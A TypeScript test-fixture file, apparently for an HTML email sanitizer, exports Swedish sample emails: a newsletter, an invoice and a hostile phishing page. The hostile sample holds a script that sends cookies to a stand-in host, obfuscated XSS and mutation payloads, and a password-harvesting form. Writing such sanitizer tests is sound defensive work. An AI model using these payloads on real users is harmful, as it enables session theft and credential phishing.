/** A newsletter as the large mailing services make them: nested tables, remote pictures, a tracking pixel. */
export const NEWSLETTER_HTML = `<!doctype html><html lang="sv"><head><meta charset="utf-8"><title>Höstens kurser</title>
<style>@media (max-width:480px){.col{display:block!important;width:100%!important}}</style></head>
<body style="margin:0;background:#eef1f4;font-family:Georgia,serif">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0" bgcolor="#eef1f4"><tr><td align="center">
<table role="presentation" width="600" cellpadding="0" cellspacing="0" bgcolor="#ffffff">
<tr><td style="background:#1f5f4a;color:#ffffff;padding:28px 32px"><img src="https://bilder.kursbyran.example/logga.png" width="120" height="32" alt="Kursbyrån Klarspråk"><h1 style="margin:16px 0 0;font-size:28px">Skriv så att alla förstår</h1></td></tr>
<tr><td style="padding:24px 32px"><p>Hej Karin!</p><p>I höst ger vi tre kurser för dig som svarar på frågor från invånare.</p>
<table role="presentation" width="100%"><tr>
<td class="col" width="33%" valign="top"><h2 style="font-size:17px">Klarspråk på en dag</h2><p>Grunderna, med dina egna texter.</p></td>
<td class="col" width="33%" valign="top"><h2 style="font-size:17px">Svara på svåra mejl</h2><p>När någon är arg, ledsen eller rädd.</p></td>
<td class="col" width="33%" valign="top"><h2 style="font-size:17px">Beslut som går att förstå</h2><p>Skäl, beslut, hur man överklagar.</p></td>
</tr></table>
<p align="center"><a href="https://kursbyran.example/kurser?utm_source=brev" style="display:inline-block;background:#1f5f4a;color:#ffffff;padding:12px 24px;text-decoration:none">Se alla datum</a></p></td></tr>
<tr><td style="padding:16px 32px;font-size:12px;color:#555555">Du får brevet för att du har gått en kurs. <a href="https://kursbyran.example/avsluta">Avsluta</a></td></tr>
</table></td></tr></table>
<img src="https://spar.kursbyran.example/o.gif?m=karin" width="1" height="1" alt=""></body></html>`;

/** An invoice with a table of rows and a remote logotype. */
export const INVOICE_HTML = `<!doctype html><html lang="sv"><head><meta charset="utf-8"></head>
<body style="font-family:Arial,sans-serif;color:#222222">
<img src="https://kontorsmaterial.example/logo.png" alt="Kontorsmaterial i Norden" width="180" height="48">
<h1 style="font-size:20px">Faktura 20488</h1>
<table border="1" cellpadding="6" cellspacing="0" style="border-collapse:collapse;width:560px">
<thead><tr style="background:#dfe8f0"><th align="left">Vara</th><th align="right">Antal</th><th align="right">À-pris</th><th align="right">Summa</th></tr></thead>
<tbody><tr><td>Kopieringspapper A4, 500 ark</td><td align="right">40</td><td align="right">42,00</td><td align="right">1 680,00</td></tr>
<tr><td>Frakt</td><td align="right">1</td><td align="right">208,00</td><td align="right">208,00</td></tr>
<tr><td colspan="3">Moms 25 %</td><td align="right">472,00</td></tr>
<tr><td colspan="3"><strong>Att betala</strong></td><td align="right"><strong>2 360,00 kr</strong></td></tr></tbody></table>
<p>Förfaller om 30 dagar. Ange fakturans nummer.</p></body></html>`;

/** What must come out harmless: scripts, event handlers, a form, a frame, a tracker, a disguised link, styles that cover the page. */
export const HOSTILE_HTML = `<html><head><base href="https://konto-verifiering.example/"><meta http-equiv="refresh" content="0;url=https://konto-verifiering.example/">
<style>body{background:url(https://konto-verifiering.example/css?o=1)} .tack{position:fixed;inset:0;z-index:99999;background:#ffffff}</style>
<script>document.location='https://konto-verifiering.example/?c='+document.cookie</script></head>
<body onload="alert('onload')">
<div class="tack"><h1>Ekvalla kommun</h1>
<p>Ditt lösenord <b>går ut idag</b>. <a href="https://konto-verifiering.example/login">https://intranat.ekvalla.example</a></p>
<p><a href="javascript:alert('href')">Behåll mitt lösenord</a> <a href="JaVa&#10;ScRiPt:alert('split')">Hjälp</a></p>
<img src="x" onerror="alert('onerror')"><svg onload="alert('svg')"><script>alert('svg script')</script></svg>
<iframe src="https://konto-verifiering.example/" srcdoc="<script>alert('srcdoc')</script>"></iframe>
<form action="https://konto-verifiering.example/in" method="post"><input name="losenord" type="password"><button>Logga in</button></form>
<object data="https://konto-verifiering.example/x.swf"></object><math><mtext><table><mglyph><style><img src=x onerror="alert('mutation')"></style></mglyph></table></mtext></math>
<img src="https://konto-verifiering.example/pixel.gif?till=registrator" width="1" height="1" alt=""></div></body></html>`;
